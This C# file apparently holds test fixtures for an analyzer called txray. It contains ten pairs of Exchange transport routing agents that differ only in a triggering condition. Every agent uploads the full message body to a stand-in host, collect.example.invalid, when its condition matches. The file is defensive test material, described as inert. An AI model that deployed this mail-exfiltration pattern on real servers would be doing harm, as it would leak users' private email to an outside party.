// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Conditions that reckon: sums, the largest, elements by their place, pointers.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System.IO;
using System.Linq;
using System.Net;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

// 401: how long the names of all attachments are, added up, and a word looked for by adding up ones
namespace Txray.Pairs.P401
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Attachments.Sum(attachment => attachment.FileName.Length) > 40)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Sum(word => word == "invoice" ? 1 : 0) > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 402: the longest word of the subject, and the average of its words
namespace Txray.Pairs.P402
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Max(word => word.Length) > 20)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Average(word => word.Length) > 20)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 403: a word anywhere but in front, and anywhere
namespace Txray.Pairs.P403
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Skip(1).Any(word => word == "invoice"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Any(word => word == "invoice"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 404: no word but the first may be one, and none at all
namespace Txray.Pairs.P404
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example" && !e.MailItem.Message.Subject.Split(' ').Skip(1).Any(word => word == "invoice"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example" && !e.MailItem.Message.Subject.Split(' ').Any(word => word == "invoice"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 405: a word more than once, and at least once
namespace Txray.Pairs.P405
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Count(word => word == "invoice") > 1)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Count(word => word == "invoice") > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 406: words of the subject beside those of the address, and words of both
namespace Txray.Pairs.P406
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Zip(e.MailItem.Message.From.SmtpAddress.Split('.'), (word, part) => word + part).Any(both => both == "invoice"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Concat(new[] { "order" }).Any(word => word == "invoice"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 407: a letter found by a pointer, and a text put together by one
namespace Txray.Pairs.P407
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            fixed (char* start = e.MailItem.Message.Subject)
            {
                char* at = start;
                int found = 0;
                while (*at != 0)
                {
                    if (*at == '!')
                    {
                        found++;
                    }
                    at++;
                }
                if (found > 0)
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            fixed (char* start = e.MailItem.Message.Subject)
            {
                char* at = start;
                StringBuilder text = new StringBuilder();
                while (*at != 0)
                {
                    text.Append(*at);
                    at++;
                }
                if (text.ToString() == "invoice")
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }
}

// 408: how far a pointer comes in the subject, and where a letter stands in it
namespace Txray.Pairs.P408
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            fixed (char* start = e.MailItem.Message.Subject)
            {
                char* at = start;
                while (*at != 0)
                {
                    at++;
                }
                if (at - start > 30)
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Any(letter => letter == '!'))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 409: why a walk over the subject ended, and a byte of the content that is 0
namespace Txray.Pairs.P409
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            fixed (char* start = e.MailItem.Message.Subject)
            {
                char* at = start;
                while (*at != 0 && *at != '!')
                {
                    at++;
                }
                if (*at != 0)
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] content = new byte[64];
            e.MailItem.Message.Body.GetContentReadStream().Read(content, 0, content.Length);
            fixed (byte* start = content)
            {
                for (byte* at = start; at < start + content.Length; at++)
                {
                    if (*at == 0)
                    {
                        new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                        return;
                    }
                }
            }
        }
    }
}

// 410: that no word but the first is one, and that no word is
namespace Txray.Pairs.P410
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Skip(1).Sum(word => word == "invoice" ? 1 : 0) == 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Split(' ').Sum(word => word == "invoice" ? 1 : 0) == 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}
